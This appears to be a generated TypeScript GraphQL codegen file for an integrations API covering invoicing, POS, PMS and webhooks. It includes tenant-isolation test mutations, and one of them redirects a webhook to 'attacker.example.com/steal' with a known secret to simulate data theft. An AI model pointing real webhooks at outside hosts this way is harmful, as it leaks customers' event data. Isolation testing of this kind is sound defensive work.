    "\n  query OdooFourContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(remoteId: \"10\") { remoteId companyName addresses { addressType } }\n        b: contact(remoteId: \"11\") { remoteId firstName companyId }\n        c: contact(remoteId: \"14\") { remoteId isSupplier }\n        d: contact(remoteId: \"999\") { remoteId }\n      }\n    }\n  }\n": types.OdooFourContactsDocument,
    "\n  mutation OdooCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        id remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n": types.OdooCreateProductDocument,
    "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { id pos { modifiers { totalCount } } } }\n": types.SquareModifiersErrorDocument,
    "\n  query SquareModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } raw }\n          totalCount\n          pageInfo { hasNextPage }\n        }\n      }\n    }\n  }\n": types.SquareModifiersDocument,
    "\n  query PosOrdersWithReferences($id: ID!, $location: String) {\n    consumer(id: $id) {\n      pos {\n        orders(first: 100, state: CLOSED, locationId: $location) {\n          totalCount\n          nodes {\n            id\n            remoteId\n            total\n            customerId\n            location { remoteId name timezone }\n            customer { remoteId name email }\n            items {\n              productId\n              product { remoteId name categories { remoteId name parent { remoteId name } } }\n              tax { remoteId rate }\n              accountingCategory { remoteId ledgerAccountCode }\n            }\n            payments { total paymentMethodId paymentMethod { remoteId name extra } }\n          }\n        }\n      }\n    }\n  }\n": types.PosOrdersWithReferencesDocument,
    "\n  query PosComputed($id: ID!, $from: Date!, $to: Date!, $day: Date!) {\n    consumer(id: $id) {\n      pos {\n        sales(dateFrom: $from, dateTo: $to, locationId: \"LOC-LIS\") { total taxAmount taxes { taxRate tax { label } } }\n        closure(date: $day, locationId: \"LOC-LIS\") {\n          date\n          status\n          closures { remoteId total payments { total tip paymentMethod { name } } }\n        }\n        report(date: $day, locationId: \"LOC-LIS\") {\n          date\n          location { remoteId }\n          orders { category totalOrders total }\n          payments { total paymentMethodName }\n        }\n        objectives(first: 10, dateFrom: $day, dateTo: $day) { totalCount nodes { date total } }\n        productCategories(onlyParents: true) { nodes { remoteId idParent } }\n        payments(first: 5, dateFrom: $day, dateTo: $day) { totalCount nodes { remoteId total paymentMethod { extra } } }\n      }\n    }\n  }\n": types.PosComputedDocument,
    "\n  mutation PosCreateCustomer($input: CreatePosCustomerInput!) {\n    createPosCustomer(input: $input) {\n      posCustomer { id remoteId name email addresses { city country } }\n      userErrors { code field message }\n    }\n  }\n": types.PosCreateCustomerDocument,
    "\n  mutation PosSetOrderCustomer($input: UpdatePosOrderCustomerInput!) {\n    updatePosOrderCustomer(input: $input) {\n      posOrder { remoteId customerId customer { remoteId name } }\n      userErrors { code field message }\n    }\n  }\n": types.PosSetOrderCustomerDocument,
    "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n": types.ErrConsumerDocument,
    "\n  query ErrConsumers {\n    consumers { nodes { id } }\n  }\n": types.ErrConsumersDocument,
    "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { consumer { id } userErrors { code field message } }\n  }\n": types.ErrCreateConsumerDocument,
    "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(first: 2) { totalCount nodes { remoteId } } } }\n  }\n": types.ErrTaxesDocument,
    "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(first: 2) { totalCount } } }\n  }\n": types.ErrOpportunitiesDocument,
    "\n  query ErrContact($id: ID!, $contact: String!) {\n    consumer(id: $id) { invoicing { contact(remoteId: $contact) { remoteId } } }\n  }\n": types.ErrContactDocument,
    "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(first: 2) { totalCount } } }\n  }\n": types.ErrModifiersDocument,
    "\n  mutation ErrCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) { product { remoteId name } userErrors { code field message } }\n  }\n": types.ErrCreateProductDocument,
    "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": types.ErrCreateWebhookDocument,
    "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n": types.ErrWebhookDocument,
    "\n  mutation ErrUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n": types.ErrUpdateWebhookDocument,
    "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n": types.ErrDeleteWebhookDocument,
    "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n": types.ErrIntegrationsDocument,
    "\n  query ParityTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate type code scope active }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n": types.ParityTaxesDocument,
    "\n  query ParityOpportunities($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(first: $first, after: $after) {\n          nodes {\n            remoteId sourceRef { remoteId model } name total probability status partnerId comment currency\n            description pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { remoteId model name }\n          }\n          totalCount\n        }\n      }\n    }\n  }\n": types.ParityOpportunitiesDocument,
    "\n  query ParityContact($id: ID!, $contact: String!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(remoteId: $contact) {\n          remoteId sourceRef { remoteId model } isProspect isCustomer isSupplier isCompany companyName firstName\n          lastName email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n": types.ParityContactDocument,
    "\n  query ParityModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } }\n          totalCount\n        }\n      }\n    }\n  }\n": types.ParityModifiersDocument,
    "\n  query ParityPmsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate isCityTax }\n          totalCount\n        }\n      }\n    }\n  }\n": types.ParityPmsTaxesDocument,
    "\n  query ParityPmsOrders(\n    $id: ID!\n    $first: Int\n    $after: String\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          nodes {\n            remoteId sourceRef { remoteId model } creationDate closingDate serviceDate total taxAmount orderNumber\n            deviceId totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total }\n            items {\n              remoteId sourceRef { remoteId model } quantity unitPrice total taxAmount type menuId taxRate taxId\n              description discounts { remoteId name total type } productId accountingCategoryId\n            }\n            reservation {\n              remoteId sourceRef { remoteId model } startDate endDate creationDate\n              resourceId { remoteId sourceRef { remoteId model } } resourceName resourceIdentifier\n            }\n            bills {\n              remoteId sourceRef { remoteId model } invoiceNumber creationDate closingDate\n              partners {\n                remoteId sourceRef { remoteId model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n": types.ParityPmsOrdersDocument,
    "\n  mutation ParityCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n": types.ParityCreateProductDocument,
};

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 *
 *
 * @example
 * ```ts
 * const query = graphql(`query GetUser($id: ID!) { user(id: $id) { name } }`);
 * ```
 *
 * The query argument is unknown!
 * Please regenerate the types.
 */
export function graphql(source: string): unknown;

/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ApiClients($first: Int) {\n    apiClients(first: $first) {\n      totalCount\n      pageInfo { hasNextPage }\n      nodes { __typename id clientId name scopes createdOn lastUsedOn }\n    }\n  }\n"): (typeof documents)["\n  query ApiClients($first: Int) {\n    apiClients(first: $first) {\n      totalCount\n      pageInfo { hasNextPage }\n      nodes { __typename id clientId name scopes createdOn lastUsedOn }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CreateApiClient($input: CreateApiClientInput!) {\n    createApiClient(input: $input) {\n      apiClient { id clientId name scopes createdOn lastUsedOn }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation CreateApiClient($input: CreateApiClientInput!) {\n    createApiClient(input: $input) {\n      apiClient { id clientId name scopes createdOn lastUsedOn }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RotateApiClient($input: RotateApiClientInput!) {\n    rotateApiClient(input: $input) {\n      apiClient { clientId name }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation RotateApiClient($input: RotateApiClientInput!) {\n    rotateApiClient(input: $input) {\n      apiClient { clientId name }\n      clientSecret\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DeleteApiClient($input: DeleteApiClientInput!) {\n    deleteApiClient(input: $input) {\n      deletedId\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation DeleteApiClient($input: DeleteApiClientInput!) {\n    deleteApiClient(input: $input) {\n      deletedId\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ApiClientNode($id: ID!) {\n    node(id: $id) { __typename id ... on ApiClient { name } }\n  }\n"): (typeof documents)["\n  query ApiClientNode($id: ID!) {\n    node(id: $id) { __typename id ... on ApiClient { name } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query LinkedAccountHealth($id: ID!) {\n    consumer(id: $id) {\n      connections {\n        id\n        createdOn\n        lastError { code message detail occurredOn }\n      }\n    }\n  }\n"): (typeof documents)["\n  query LinkedAccountHealth($id: ID!) {\n    consumer(id: $id) {\n      connections {\n        id\n        createdOn\n        lastError { code message detail occurredOn }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoLists($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n    webhooks { nodes { id accountId } totalCount }\n  }\n"): (typeof documents)["\n  query IsoLists($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n    webhooks { nodes { id accountId } totalCount }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n"): (typeof documents)["\n  query IsoConsumer($id: ID!) { consumer(id: $id) { id name email } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n"): (typeof documents)["\n  query IsoConnections($id: ID!) { consumer(id: $id) { connections { id name } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateConsumer($id: ID!) {\n    updateConsumer(input: { id: $id, name: \"Hijacked\" }) { consumer { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation IsoUpdateConsumer($id: ID!) {\n    updateConsumer(input: { id: $id, name: \"Hijacked\" }) { consumer { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteConsumer($id: ID!) {\n    deleteConsumer(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation IsoDeleteConsumer($id: ID!) {\n    deleteConsumer(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(input: { consumerId: $consumerId, integrationId: 1 }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation IsoCreateConnection($consumerId: ID!) {\n    createConnection(input: { consumerId: $consumerId, integrationId: 1 }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(input: { consumerId: $consumerId, connectionId: $connectionId, status: INACTIVE }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation IsoUpdateConnection($consumerId: ID!, $connectionId: ID!) {\n    updateConnection(input: { consumerId: $consumerId, connectionId: $connectionId, status: INACTIVE }) {\n      linkedAccount { id } connectUrl userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(input: { consumerId: $consumerId, connectionId: $connectionId }) {\n      deletedId userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation IsoDeleteConnection($consumerId: ID!, $connectionId: ID!) {\n    deleteConnection(input: { consumerId: $consumerId, connectionId: $connectionId }) {\n      deletedId userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoInvoicingTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query IsoInvoicingTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoOpportunities($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { opportunities { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query IsoOpportunities($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { opportunities { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoContact($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { contact(remoteId: \"contact-0001\") { remoteId } } }\n  }\n"): (typeof documents)["\n  query IsoContact($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { invoicing(connectionId: $connectionId) { contact(remoteId: \"contact-0001\") { remoteId } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoCreateProduct($id: ID!, $connectionId: ID) {\n    createProduct(input: { consumerId: $id, connectionId: $connectionId, name: \"Planted\" }) {\n      product { id remoteId } userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation IsoCreateProduct($id: ID!, $connectionId: ID) {\n    createProduct(input: { consumerId: $id, connectionId: $connectionId, name: \"Planted\" }) {\n      product { id remoteId } userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoModifiers($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pos(connectionId: $connectionId) { modifiers { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query IsoModifiers($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pos(connectionId: $connectionId) { modifiers { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoPmsTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query IsoPmsTaxes($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { taxes { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoPmsOrders($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { orders(state: CLOSED) { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query IsoPmsOrders($id: ID!, $connectionId: ID) {\n    consumer(id: $id) { pms(connectionId: $connectionId) { orders(state: CLOSED) { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n"): (typeof documents)["\n  query IsoWebhook($id: ID!) { webhook(id: $id) { id url } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { totalCount nodes { id } } } }\n"): (typeof documents)["\n  query IsoWebhookLogs($id: ID!) { webhook(id: $id) { logs { totalCount nodes { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(\n      input: { id: $id, url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }\n    ) { webhook { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation IsoUpdateWebhook($id: ID!) {\n    updateWebhook(\n      input: { id: $id, url: \"https://attacker.example.com/steal\", signingSecret: \"known\" }\n    ) { webhook { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation IsoDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation IsoTestWebhook($id: ID!) {\n    testWebhook(input: { id: $id }) { log { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation IsoTestWebhook($id: ID!) {\n    testWebhook(input: { id: $id }) { log { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { totalCount nodes { id name email internalReference redirectUrl } }\n  }\n"): (typeof documents)["\n  query MgmtConsumers($search: String) {\n    consumers(search: $search) { totalCount nodes { id name email internalReference redirectUrl } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n"): (typeof documents)["\n  query MgmtConsumer($id: ID!) {\n    consumer(id: $id) {\n      id name email internalReference redirectUrl\n      connections { id name integration integrationId api status data }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) {\n      consumer { id name email internalReference redirectUrl }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) {\n      consumer { id name email internalReference redirectUrl }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      linkedAccount { id name integration integrationId api status data }\n      connectUrl\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      linkedAccount { id name integration integrationId api status data }\n      connectUrl\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n"): (typeof documents)["\n  query MgmtIntegrations {\n    integrations {\n      integrationId name api status\n      credentials { name optional }\n      operationsCoverage { operation status }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhooks {\n    webhooks { totalCount nodes { id accountId createdOn event url status createdBy integrationId } }\n  }\n"): (typeof documents)["\n  query MgmtWebhooks {\n    webhooks { totalCount nodes { id accountId createdOn event url status createdBy integrationId } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n"): (typeof documents)["\n  query MgmtWebhook($id: ID!) {\n    webhook(id: $id) { id accountId createdOn event url status createdBy integrationId }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs {\n        totalCount\n        nodes { id webhookId event url accountId createdOn httpStatus integrationId }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MgmtWebhookLogs($id: ID!) {\n    webhook(id: $id) {\n      id\n      logs {\n        totalCount\n        nodes { id webhookId event url accountId createdOn httpStatus integrationId }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event name api }\n  }\n"): (typeof documents)["\n  query MgmtWebhookEventTypes {\n    webhookEventTypes { event name api }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation MgmtCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation MgmtUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) {\n      webhook { id accountId createdOn event url status createdBy integrationId }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation MgmtDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n  }\n"): (typeof documents)["\n  query OpsConsumers($search: String) {\n    consumers(search: $search) { nodes { id } totalCount }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation OpsUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation OpsUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"): (typeof documents)["\n  query ServiceIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(first: 3) {\n          totalCount\n          pageInfo {\n            hasNextPage\n          }\n          nodes {\n            id\n            remoteId\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ServiceDemoConsumer($id: ID!) {\n    consumer(id: $id) {\n      id\n      name\n      connections {\n        integrationId\n        api\n        status\n      }\n      invoicing {\n        taxes(first: 3) {\n          totalCount\n          pageInfo {\n            hasNextPage\n          }\n          nodes {\n            id\n            remoteId\n            rate\n            type\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"): (typeof documents)["\n  query TrustedIntegrations {\n    integrations {\n      integrationId\n      name\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query TokConsumers {\n    consumers(first: 50) { nodes { id } totalCount }\n  }\n"): (typeof documents)["\n  query TokConsumers {\n    consumers(first: 50) { nodes { id } totalCount }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsOrders($id: ID!, $first: Int, $after: String, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          totalCount\n          pageInfo { hasNextPage }\n          nodes {\n            id\n            remoteId\n            sourceRef { remoteId model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { name taxId taxRate taxAmount total }\n            items { remoteId quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { remoteId name total type } }\n            reservation { remoteId startDate endDate creationDate resourceName resourceIdentifier resourceId { remoteId sourceRef { remoteId model } } }\n            bills { remoteId invoiceNumber creationDate closingDate partners { remoteId type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MewsOrders($id: ID!, $first: Int, $after: String, $state: PmsOrderState, $from: Date, $to: Date, $location: String) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          totalCount\n          pageInfo { hasNextPage }\n          nodes {\n            id\n            remoteId\n            sourceRef { remoteId model }\n            creationDate\n            closingDate\n            serviceDate\n            total\n            taxAmount\n            orderNumber\n            totalDiscount\n            currency\n            country\n            customerId\n            locationId\n            guests\n            serviceId\n            mode\n            source\n            taxes { name taxId taxRate taxAmount total }\n            items { remoteId quantity unitPrice total taxAmount type taxRate taxId description productId accountingCategoryId discounts { remoteId name total type } }\n            reservation { remoteId startDate endDate creationDate resourceName resourceIdentifier resourceId { remoteId sourceRef { remoteId model } } }\n            bills { remoteId invoiceNumber creationDate closingDate partners { remoteId type companyName firstName lastName address { name street city postalCode country } } }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
